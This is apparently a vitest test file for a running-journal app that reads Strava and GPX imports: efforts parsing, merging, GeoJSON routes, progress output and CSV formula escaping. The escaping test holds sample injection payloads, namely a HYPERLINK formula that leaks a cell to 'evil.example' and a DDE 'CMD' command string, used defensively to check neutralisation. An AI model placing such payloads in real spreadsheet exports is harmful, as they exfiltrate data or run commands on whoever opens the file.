// The journal reader on the files `import` writes: the efforts column, the source, the route files.
import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createProgress } from '../../src/lib/import/progress.ts';
import { writeImported } from '../../src/lib/import/write-imported.ts';
import { emptyRunDraft } from '../../src/lib/model/run-columns.ts';
import { formatEfforts, parseEfforts } from '../../src/lib/journal/imported-runs.ts';
import { readJournal } from '../../src/lib/journal/read-journal.ts';
import { parseRouteGeoJson, trackToGeoJson } from '../../src/lib/journal/routes.ts';
import { formatProblem } from '../../src/lib/journal/problems.ts';

let root: string;

beforeAll(async () => {
  root = await mkdtemp(join(tmpdir(), 'small-wins-imported-csv-'));
});

afterAll(async () => {
  await rm(root, { recursive: true, force: true });
});

const HEADER = 'date,distance,time,title,type,elevation,temperature,notes,private,virtual,win,source,efforts,route';

describe('the efforts column', () => {
  it('reads back exactly what it wrote, tenths of a second and of a metre included', () => {
    const efforts = [
      { distance: 400, time: 91.3, startOffset: 3857.5 },
      { distance: 1609.344, time: 579.2, startOffset: 0 },
      { distance: 21097.5, time: 6015.7, startOffset: 12.1 },
    ];
    const text = formatEfforts(efforts);
    expect(text).toBe('400m 1:31.3 @3857.5m; 1609.344m 9:39.2 @0m; 21097.5m 1:40:15.7 @12.1m');
    expect(parseEfforts(text)).toEqual({ efforts });
  });

  it('names the file, line, field and the effort it could not read', async () => {
    const data = join(root, 'bad-efforts');
    await mkdir(join(data, 'imported'), { recursive: true });
    await writeFile(
      join(data, 'imported/strava.csv'),
      `${HEADER}\n2024-05-01T07:00:00,5000 m,25:00,Easy,Run,,,,,,,strava:1,5000m 24:59 @0m,\n2024-05-02T07:00:00,5000 m,25:00,Easy,Run,,,,,,,strava:2,5 km in 24 minutes,\n`,
    );
    const journal = await readJournal(data);
    expect(journal.errors.map(formatProblem)).toEqual([
      expect.stringMatching(/bad-efforts\/imported\/strava\.csv:3: efforts: got "5 km in 24 minutes", expected efforts like "5000m 23:40 @2100m/),
    ]);
    expect(journal.runs[0]!.efforts).toEqual([{ distance: 5000, time: 1499, startOffset: 0 }]);
  });

  it('reads rows as imports: merged with the hand-written run of the same outing, which wins', async () => {
    const data = join(root, 'merge');
    await mkdir(join(data, 'imported'), { recursive: true });
    await mkdir(join(data, 'routes'), { recursive: true });
    await writeFile(join(data, 'runs.csv'), 'date,distance,time,title\n2024-05-01,5,,My parkrun\n');
    await writeFile(
      join(data, 'imported/strava.csv'),
      `${HEADER}\n2024-05-01T09:00:00,5010 m,24:10,Morning Run,Run,12,,,,,,strava:77,5000m 24:07 @3m,routes/strava-77.geojson\n`,
    );
    await writeFile(join(data, 'routes/strava-77.geojson'), trackToGeoJson({ points: [[59.1, 10.1], [59.2, 10.2], [59.3, 10.3]], breaks: [2] }));
    const journal = await readJournal(data);
    expect(journal.errors).toEqual([]);
    expect(journal.merged).toBe(1);
    expect(journal.runs).toHaveLength(1);
    const run = journal.runs[0]!;
    expect([run.title, run.distance, run.time, run.startTime, run.elevation]).toEqual(['My parkrun', 5000, 1450, '09:00:00', 12]);
    expect(run.track).toEqual({ points: [[59.1, 10.1], [59.2, 10.2], [59.3, 10.3]], breaks: [2] });
    expect(run.efforts).toEqual([{ distance: 5000, time: 1447, startOffset: 3 }]);
    expect(run.extra).toEqual({});
  });

  it('warns about a route file that is not there', async () => {
    const data = join(root, 'no-route');
    await mkdir(join(data, 'imported'), { recursive: true });
    await writeFile(join(data, 'imported/tracks.csv'), `${HEADER}\n2024-05-01T09:00:00,5010 m,24:10,,,,,,,,,gpx:20240501T070000Z,,routes/gone.geojson\n`);
    const journal = await readJournal(data);
    expect(journal.warnings.map(formatProblem)).toEqual([
      expect.stringMatching(/no-route\/imported\/tracks\.csv:2: route: got "routes\/gone\.geojson", expected a route file in .*no-route\/routes\//),
    ]);
  });
});

describe('route files', () => {
  it('are GeoJSON lines, longitude first, one line per stretch around a hidden zone', () => {
    const text = trackToGeoJson({ points: [[59.1, 10.1], [59.2, 10.2], [59.3, 10.3], [59.4, 10.4]], breaks: [2] });
    expect(JSON.parse(text)).toEqual({ type: 'MultiLineString', coordinates: [[[10.1, 59.1], [10.2, 59.2]], [[10.3, 59.3], [10.4, 59.4]]] });
    expect(parseRouteGeoJson('{"type":"Point","coordinates":[1,2]}')).toEqual({ expected: 'a GeoJSON LineString or MultiLineString of [longitude, latitude] positions' });
  });
});

describe('progress', () => {
  it('prints a plain line per tenth (and the first) when output is not a terminal, and one rewritten line on a terminal', () => {
    let plain = '';
    let clock = 0;
    const lines = createProgress({ isTTY: false, write: (t) => (plain += t), now: () => clock });
    for (let done = 1; done <= 100; done++) {
      clock += 100;
      lines.update(done, 100);
    }
    lines.finish();
    const printed = plain.trim().split('\n');
    expect(printed).toHaveLength(11);
    expect(printed[0]).toBe('Reading activities: 1 of 100 (1%)');
    expect(printed[5]).toBe('Reading activities: 50 of 100 (50%), about 5 s left');
    expect(printed.at(-1)).toBe('Reading activities: 100 of 100 (100%)');
    let tty = '';
    const bar = createProgress({ isTTY: true, write: (t) => (tty += t), now: () => clock });
    clock += 5000;
    bar.update(10, 100);
    bar.finish();
    expect(tty).toBe('\r\u001b[2KReading activities: 10 of 100 (10%), about 45 s left\n');
  });
});

describe('text from an export that a spreadsheet would run as a formula', () => {
  const draft = (date: string, fields: { title: string | null; notes?: string | null; temperature?: number | null }) => ({
    ...emptyRunDraft({ date, distance: 5000, source: { path: 'export', line: null, kind: 'strava' as const } }),
    time: 1500,
    type: 'Run',
    ...fields,
  });

  it('is written behind a single quote, reads back exactly as it was, and the rows already there keep their bytes', async () => {
    const data = join(root, 'formulae');
    await mkdir(join(data, 'imported'), { recursive: true });
    // A row the runner already has, written by hand with a formula start: its bytes are never touched.
    const existing = `${HEADER}\n2024-05-01T07:00:00,5000 m,25:00,=1+1 by hand,Run,,-3,,,,,strava:1,,\n`;
    await writeFile(join(data, 'imported/strava.csv'), existing);
    const titles = ['=HYPERLINK("http://evil.example/?x="&A1)', '+CMD|\' /C calc\'!A0', '-5°C and windy', '@SUM(1)', "'=already quoted", 'Plain run'];
    const runs = titles.map((title, i) => ({
      target: 'strava' as const,
      source: `strava:${10 + i}`,
      draft: draft(`2024-05-0${i + 2}`, { title, notes: i === 0 ? '\tTabbed note' : null, temperature: i === 2 ? -5 : null }),
    }));
    await writeImported(data, runs, data, (await readJournal(data)).profile);

    const text = await readFile(join(data, 'imported/strava.csv'), 'utf8');
    expect(text.startsWith(existing)).toBe(true);
    const added = text.slice(existing.length).split('\n');
    expect(added[0]).toMatch(/^2024-05-02,5000 m,25:00,"'=HYPERLINK\(""http:\/\/evil\.example\/\?x=""&A1\)",Run,,,'\tTabbed note,/);
    expect(added[1]).toContain(",'+CMD|' /C calc'!A0,");
    // A negative temperature is a number, not text: it stays as it is.
    expect(added[2]).toContain(",'-5°C and windy,Run,,-5,");
    expect(added[3]).toContain(",'@SUM(1),");
    expect(added[4]).toContain(",''=already quoted,");
    expect(added[5]).toContain(',Plain run,');
    // No text cell of a new row starts a formula.
    for (const row of added.filter((line) => line !== '')) expect(row.split(',').filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-\d+$/.test(cell))).toEqual([]);

    const journal = await readJournal(data);
    expect(journal.errors).toEqual([]);
    expect(journal.runs.map((run) => run.title)).toEqual(['=1+1 by hand', ...titles]);
    expect(journal.runs[1]!.notes).toBe('Tabbed note');
    expect(journal.runs.map((run) => run.temperature)).toEqual([-3, null, null, -5, null, null, null]);
  });
});
